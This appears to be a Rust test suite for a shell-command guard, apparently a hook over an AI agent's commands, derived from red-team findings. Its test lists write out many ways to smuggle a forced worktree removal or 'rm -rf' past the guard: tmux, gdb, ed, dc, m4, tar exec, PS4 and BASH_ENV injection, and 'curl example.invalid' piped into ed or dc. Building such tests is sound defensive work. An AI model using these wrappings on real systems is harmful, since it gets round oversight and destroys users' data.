//! The guard through command runners (`uv run`, `nix develop -c`, `perf stat`, ...), programs
//! it does not know whose arguments hold a guarded command (asked, naming the program), shells
//! whose syntax is not POSIX's (fish, csh, pwsh: asked when their text names a guarded
//! program), zsh's precommand words, commands given in options or the environment (`tar
//! --to-command`, `BASH_ENV=<(...)`), and `((` under dash (red-team 7 findings 11, 07, 03, 02).

mod common;
mod guard_support;

use common::snap::{answer, at_now};
use common::*;
use guard_support::*;

#[test]
fn known_runners_are_judged_as_the_command_they_run() {
    let f = fixture();
    let r = &f.repo.root;
    for cmd in [
        "uv run git worktree remove --force ../dirty",
        "nix develop -c git worktree remove --force ../dirty",
        "perf stat -o /dev/null git worktree remove --force ../dirty",
        "gdb -q -batch -ex run --args git worktree remove --force ../dirty",
        "hyperfine --warmup 1 'git worktree remove --force ../dirty'",
        "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='git worktree remove --force ../dirty' README.md",
        "rbash -c 'git worktree remove --force ../dirty'",
        "echo 'git worktree remove --force ../dirty' | rbash",
        "zsh -c 'repeat 1 noglob =git worktree remove --force ../dirty'",
        "dash -c '((git worktree remove --force ../dirty))'",
        "PS4='$(git worktree remove --force ../dirty)' bash -xc true",
    ] {
        let reason = denied(r, cmd);
        assert!(reason.contains("[guard:worktree-dirty]"), "{cmd}: {reason}");
    }
}

#[test]
fn what_cannot_be_read_is_asked() {
    let f = fixture();
    let r = &f.repo.root;
    for cmd in [
        "somerunner --flag git worktree remove --force ../dirty",
        "fish -c 'git worktree remove --force ../dirty'",
        "pwsh -Command 'rm -rf ../dirty'",
        "BASH_ENV=<(echo 'git worktree remove --force ../dirty') bash -c true",
    ] {
        asked(r, cmd);
    }
    let reason = asked(r, "somerunner --flag git worktree remove --force ../dirty");
    assert!(reason.contains("`somerunner`"), "{reason}");
}

#[test]
fn everyday_spellings_stay_silent() {
    let f = fixture();
    let r = &f.repo.root;
    for cmd in [
        "somerunner git status",
        "somerunner --flag rm -rf /tmp/scratch-build",
        "fish -c 'echo hi'",
        "echo git worktree remove --force ../dirty",
        "printf '%s\\n' rm -rf ../dirty",
        "dash -c '((echo hi))'",
        "bash -c '((git worktree remove --force ../dirty))'",
        "uv run pytest -q",
        "nix develop -c cargo build",
        "git archive HEAD | ssh host tar -x",
    ] {
        allowed(r, cmd);
    }
}

#[test]
fn messages_name_the_runner_and_the_shell() {
    let f = fixture();
    let r = &f.repo.root;
    let shown = |cmd: &str| answer(&f.repo, &at_now(r, &bash_event(ME, r, cmd)));
    insta::assert_snapshot!(
        "runners_unknown_program",
        shown("somerunner --flag git worktree remove --force ../dirty")
    );
    insta::assert_snapshot!(
        "runners_foreign_shell",
        shown("fish -c 'git worktree remove --force ../dirty'")
    );
}

/// Red team 8b/25, 12, 13, 14: programs that run shell text of their own (`watch 'CMD'`, tmux's
/// commands, gdb's `-ex 'shell CMD'`, ed's `!CMD`) are judged as that text; input ed reads that
/// cannot be known is asked about; everyday uses stay silent.
#[test]
fn shell_text_run_by_watch_tmux_gdb_and_ed_is_judged() {
    let f = fixture();
    let r = &f.repo.root;
    for cmd in [
        "watch -n 1 'git worktree remove --force ../dirty'",
        "timeout 3 watch -g 'git worktree remove --force ../dirty'",
        "watch -dn1 git worktree remove --force ../dirty",
        "sh -c \"watch 'git worktree remove --force ../dirty'\"",
        "tmux new -d 'git worktree remove --force ../dirty'",
        "tmux new-session -d -s x 'git worktree remove --force ../dirty'",
        "tmux -L s split-window -h 'git worktree remove --force ../dirty'",
        "tmux send-keys -t 0 'git worktree remove --force ../dirty' Enter",
        "tmux run-shell -b 'git worktree remove --force ../dirty'",
        "tmux new -d \\; neww 'git worktree remove --force ../dirty'",
        "gdb -batch -ex 'shell git worktree remove --force ../dirty'",
        "gdb -batch -ex '!git worktree remove --force ../dirty'",
        "gdb -q --eval-command='shell git worktree remove --force ../dirty'",
        "lldb -b -o 'platform shell git worktree remove --force ../dirty'",
        "printf '!git worktree remove --force ../dirty\\nq\\n' | ed -s",
        "ed -s <<< '!git worktree remove --force ../dirty'",
    ] {
        let reason = denied(r, cmd);
        assert!(reason.contains("[guard:worktree-dirty]"), "{cmd}: {reason}");
    }
    stopped(
        r,
        "gdb -batch -ex 'python import shutil; shutil.rmtree(\"../dirty\")'",
    );
    stopped(r, "curl -s example.invalid | ed -s README.md");
    for cmd in [
        "watch -n 2 cargo test",
        "watch 'git status --short'",
        "tmux new -d -s build 'cargo build'",
        "tmux ls",
        "tmux send-keys -t 0 'cargo test' Enter",
        "gdb -batch -ex run -ex bt --args ./target/debug/app",
        "printf '1d\\nw\\nq\\n' | ed -s README.md",
    ] {
        allowed(r, cmd);
    }
}

/// Red team 8b/15, 16, 28: dc's `!CMD`, m4's `syscmd`/`esyscmd` and `cmake -E
/// remove|remove_directory` are judged as the shell text or removal they are.
#[test]
fn shell_text_of_dc_m4_and_cmake_e_is_judged() {
    let f = fixture();
    let r = &f.repo.root;
    for cmd in [
        "dc -e '!git worktree remove --force ../dirty'",
        "echo 'syscmd(git worktree remove --force ../dirty)' | m4",
        "m4 <<< 'esyscmd(git worktree remove --force ../dirty)'",
        "cmake -E remove_directory ../dirty",
    ] {
        let reason = denied(r, cmd);
        assert!(reason.contains("[guard:worktree"), "{cmd}: {reason}");
    }
    stopped(r, "curl -s example.invalid | dc");
    for cmd in [
        "dc -e '2 3 + p'",
        "echo 'define(X, 1)X' | m4",
        "cmake -E echo hi",
        "cmake -E remove_directory build",
    ] {
        allowed(r, cmd);
    }
}
